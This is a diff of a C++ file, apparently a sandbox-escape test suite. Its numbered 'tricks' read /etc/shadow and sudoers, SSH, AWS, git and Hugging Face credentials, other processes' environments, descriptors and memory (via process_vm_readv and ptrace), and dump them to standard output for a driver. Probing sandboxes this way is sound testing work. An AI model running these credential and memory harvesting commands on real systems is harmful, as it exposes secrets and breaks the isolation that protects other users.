@@ -1,5 +1,5 @@
-// Reading what is not for the program: secrets in files, in environments, in memory and in open descriptors. Whatever is
-// found goes to standard output, where the driver looks for it.
+// Reading what is not for the program: secrets in files, in environments, in memory and in open descriptors.
+// Whatever is found goes to standard output, where the driver looks for it.
 #include "hostile.h"
 
 #include <dirent.h>
@@ -43,7 +43,7 @@ namespace {
 
 #if TRICK == 1  // the files, by their names
 void attack(const World& world) { world.each("--secret", show); }
-#elif TRICK == 2  // the files, through links of its own
+#elif TRICK == 2   // the files, through links of its own
 void attack(const World& world) {
   world.each("--secret", [](const char* path) {
     unlink("link");
@@ -52,7 +52,7 @@ void attack(const World& world) {
     if (link(path, "hard") == 0) show("hard");
   });
 }
-#elif TRICK == 3  // the files, through the roots and folders of other processes
+#elif TRICK == 3   // the files, through the roots and folders of other processes
 void attack(const World& world) {
   world.each("--secret", [&](const char* secret) {
     for (const char* process : {"self", "1", "2", world.text("--driver")}) {
@@ -64,21 +64,21 @@ void attack(const World& world) {
     }
   });
 }
-#elif TRICK == 4  // its own environment
+#elif TRICK == 4   // its own environment
 void attack(const World&) {
   for (char** entry = environ; *entry != nullptr; ++entry) puts(*entry);
   show("/proc/self/environ");
 }
-#elif TRICK == 5  // the environment of every process
+#elif TRICK == 5   // the environment of every process
 void attack(const World&) { show_of_all_processes("environ"); }
-#elif TRICK == 6  // the arguments of every process
+#elif TRICK == 6   // the arguments of every process
 void attack(const World& world) {
   show_of_all_processes("cmdline");
   char path[64];
   snprintf(path, sizeof(path), "/proc/%s", world.text("--driver"));
   escaped_if(access(path, F_OK) == 0, "sees the driver's process");
 }
-#elif TRICK == 7  // every descriptor that was left open
+#elif TRICK == 7   // every descriptor that was left open
 void attack(const World&) {
   for (int fd = 3; fd < 4096; ++fd) {
     char bytes[4096];
@@ -87,7 +87,7 @@ void attack(const World&) {
     if (count > 0) fwrite(bytes, 1, static_cast<size_t>(count), stdout);
   }
 }
-#elif TRICK == 8  // the descriptors of every process
+#elif TRICK == 8   // the descriptors of every process
 void attack(const World& world) {
   for (int fd = 0; fd < 256; ++fd) {
     for (const char* process : {"1", "2", world.text("--driver")}) {
@@ -97,7 +97,7 @@ void attack(const World& world) {
     }
   }
 }
-#elif TRICK == 9  // the memory of the driver and of the sandbox's first process
+#elif TRICK == 9   // the memory of the driver and of the sandbox's first process
 void attack(const World& world) {
   show_memory_of(world.text("--driver"));
   show_memory_of("1");
@@ -108,14 +108,16 @@ void attack(const World& world) {
   for (uintptr_t at = 0x400000; at < 0x800000; at += sizeof(bytes)) {
     const iovec mine = {bytes, sizeof(bytes)}, theirs = {reinterpret_cast<void*>(at), sizeof(bytes)};
     for (pid_t process : {static_cast<pid_t>(world.number("--driver")), getppid(), pid_t{1}}) {
-      escaped_if(process > 0 && process_vm_readv(process, &mine, 1, &theirs, 1, 0) > 0, "read another process's memory");
+      escaped_if(process > 0 && process_vm_readv(process, &mine, 1, &theirs, 1, 0) > 0,
+                 "read another process's memory");
     }
   }
 }
 #elif TRICK == 11  // the parent by ptrace
 void attack(const World& world) {
   for (pid_t process : {static_cast<pid_t>(world.number("--driver")), getppid(), pid_t{1}}) {
-    escaped_if(process > 0 && ptrace(PTRACE_ATTACH, process, nullptr, nullptr) == 0, "attached to another process");
+    escaped_if(process > 0 && ptrace(PTRACE_ATTACH, process, nullptr, nullptr) == 0,
+               "attached to another process");
     escaped_if(process > 0 && ptrace(PTRACE_SEIZE, process, nullptr, nullptr) == 0, "seized another process");
   }
 }
@@ -135,14 +137,17 @@ void attack(const World& world) {
 void attack(const World& world) {
   world.each("--folder", [](const char* folder) {
     char command[4200];
-    snprintf(command, sizeof(command), "cat '%s'/* '%s'/*/* '%s'/.[!.]* 2>/dev/null | head -c 200000", folder, folder, folder);
+    snprintf(command, sizeof(command), "cat '%s'/* '%s'/*/* '%s'/.[!.]* 2>/dev/null | head -c 200000", folder,
+             folder, folder);
     if (system(command) != 0) fprintf(stderr, "nothing\n");
   });
   if (system("cat /root/.* /home/*/.* /tmp/* /tmp/*/* /var/tmp/* 2>/dev/null | head -c 200000") != 0) return;
 }
 #elif TRICK == 14  // passwords of the system
 void attack(const World&) {
-  for (const char* file : {"/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/etc/sudoers", "/etc/security/opasswd"}) show(file);
+  for (const char* file :
+       {"/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/etc/sudoers", "/etc/security/opasswd"})
+    show(file);
 }
 #elif TRICK == 15  // memory of the machine
 void attack(const World&) {
@@ -196,7 +201,8 @@ void attack(const World&) {
 }
 #elif TRICK == 20  // shared memory and queues of others
 void attack(const World&) {
-  if (system("cat /dev/shm/* /dev/mqueue/* 2>/dev/null; ipcs -a 2>/dev/null; cat /proc/sysvipc/shm") != 0) return;
+  if (system("cat /dev/shm/* /dev/mqueue/* 2>/dev/null; ipcs -a 2>/dev/null; cat /proc/sysvipc/shm") != 0)
+    return;
 }
 #elif TRICK == 21  // other programs' objects and results in the cache
 void attack(const World&) {
@@ -213,7 +219,8 @@ void attack(const World&) {
 }
 #elif TRICK == 22  // history of shells, keys, tokens in the usual places
 void attack(const World&) {
-  if (system("cat ~/.bash_history ~/.ssh/* ~/.aws/* ~/.netrc ~/.git-credentials ~/.cache/huggingface/token /root/.ssh/* "
+  if (system("cat ~/.bash_history ~/.ssh/* ~/.aws/* ~/.netrc ~/.git-credentials ~/.cache/huggingface/token "
+             "/root/.ssh/* "
              "/run/secrets/* /var/run/secrets/*/* 2>/dev/null | head -c 100000") != 0)
     return;
 }
